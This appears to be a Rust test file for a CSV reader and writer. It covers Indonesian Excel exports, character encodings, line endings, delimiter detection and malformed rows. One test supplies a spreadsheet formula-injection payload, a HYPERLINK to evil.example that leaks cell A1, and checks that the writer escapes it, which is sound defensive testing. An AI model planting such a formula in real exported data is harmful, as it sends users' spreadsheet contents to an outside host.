use super::*;

/// A row as (line, cells, the unreadable column).
type Read = (u64, Vec<String>, Option<String>);

/// The header's names and every row.
fn rows(bytes: &[u8]) -> (Vec<String>, Vec<Read>) {
    let mut sheet = Sheet::open(bytes).unwrap();
    let names = sheet.names().to_vec();
    let mut out = vec![];
    while let Some(r) = sheet.next_row().unwrap() {
        out.push((
            r.line,
            r.cells.iter().map(|c| c.to_string()).collect(),
            r.unreadable.map(|e| e.column),
        ));
    }
    (names, out)
}

fn cells(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn an_indonesian_excel_file_semicolons_windows_1252_decimal_commas() {
    // As Excel in an Indonesian locale saves it: `;`, Windows-1252, CRLF,
    // trailing separators of formatted empty columns, an empty row.
    let bytes =
        b"nama;lat;lon;;\r\nRen\xe9 M\xfcller;-5,4292;105,2619;;\r\n;;;;\r\n\"A;B\";1;\"2\";;\r\n";
    assert_eq!(
        Sheet::open(&bytes[..]).unwrap().format(),
        ("windows-1252", ';')
    );
    let (names, rows) = rows(bytes);
    assert_eq!(names, ["nama", "lat", "lon"]);
    assert_eq!(
        rows,
        [
            (2, cells(&["René Müller", "-5,4292", "105,2619"]), None),
            (4, cells(&["A;B", "1", "2"]), None),
        ]
    );
}

#[test]
fn short_long_and_undecodable_rows_come_back_with_their_problem() {
    let bytes = "a,b,c\n1,2,3\n1,2\n1,2,3,4\n1,2,3,,\nJosé,\u{200B}x\u{200B},3\n"
        .as_bytes()
        .iter()
        .copied()
        .chain(*b"\xff,2,3\n")
        .collect::<Vec<u8>>();
    let (_, rows) = rows(&bytes);
    let problems: Vec<(u64, Option<&str>)> = rows.iter().map(|r| (r.0, r.2.as_deref())).collect();
    assert_eq!(
        problems,
        [
            (2, None),
            (3, Some("c")),
            (4, Some("#4")),
            (5, None),
            (6, None),
            (7, Some("a"))
        ]
    );
    assert_eq!(rows[3].1, cells(&["1", "2", "3"]), "empty extras dropped");
    assert_eq!(rows[4].1, cells(&["José", "x", "3"]));
    assert_eq!(
        rows[5].1,
        cells(&["\u{FFFD}", "2", "3"]),
        "kept as far as can be"
    );
}

#[test]
fn lines_are_counted_whatever_ends_them() {
    // (A line break within a cell of an old Mac file becomes `\n`.)
    for (end, within) in [("\n", "\n"), ("\r\n", "\r\n"), ("\r", "\n")] {
        let text = ["a;b", "1;\"x\"", "", "2;\"y", "z\"", "", "3;w"].join(end);
        let (names, read) = rows(text.as_bytes());
        assert_eq!(names, ["a", "b"], "{end:?}");
        let got: Vec<(u64, Vec<String>)> = read.into_iter().map(|r| (r.0, r.1)).collect();
        assert_eq!(
            got,
            [
                (2, cells(&["1", "x"])),
                (4, cells(&["2", &format!("y{within}z")])),
                (7, cells(&["3", "w"]))
            ],
            "{end:?}"
        );
    }
}

#[test]
fn delimiters_from_the_header_line() {
    for (header, d) in [
        ("a;b;c", b';'),
        ("a,b,c", b','),
        ("a\tb\tc", b'\t'),
        ("\"x,y\";b", b';'),
        ("case_id", b','),
    ] {
        assert_eq!(delimiter(header.as_bytes()), d, "{header}");
    }
}

#[test]
fn a_bom_and_utf16_are_read() {
    let (names, read) = rows("\u{feff}kasus;jumlah\nK-1;Rp 5\n".as_bytes());
    assert_eq!(names, ["kasus", "jumlah"]);
    assert_eq!(read[0].1, cells(&["K-1", "Rp 5"]));
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(
            "kasus\tjumlah\nK-1\tRp 5\n"
                .encode_utf16()
                .flat_map(u16::to_le_bytes),
        )
        .collect();
    assert_eq!(rows(&utf16).1[0].1, cells(&["K-1", "Rp 5"]));
}

#[test]
fn what_pantau_writes_reads_back() {
    let original = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klik\")",
        "-5",
        "+62 812",
        "KSP \"Maju\", Natar",
    ];
    let mut w = Writer::for_people(vec![]).unwrap();
    w.row(["a", "b", "c", "d"]).unwrap();
    w.row(original).unwrap();
    let bytes = w.into_inner().unwrap();
    let text = String::from_utf8_lossy(&bytes);
    assert!(text.contains("\"'=HYPERLINK("), "{text}");
    assert_eq!(rows(&bytes).1[0].1, cells(&original));
}

#[test]
fn not_text_is_refused_at_once() {
    let e = Sheet::open(&b"PK\x03\x04\x14\x00\x06\x00"[..]).unwrap_err();
    assert!(matches!(e, SheetError::NotText(_)), "{e}");
    assert!(e.to_string().contains("CSV UTF-8"), "{e}");
}

proptest::proptest! {
    /// Whatever the bytes, reading them ends without a panic.
    #[test]
    fn any_bytes_are_read_or_refused(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..600)) {
        if let Ok(mut sheet) = Sheet::open(&bytes[..]) {
            while let Ok(Some(_)) = sheet.next_row() {}
        }
    }
}
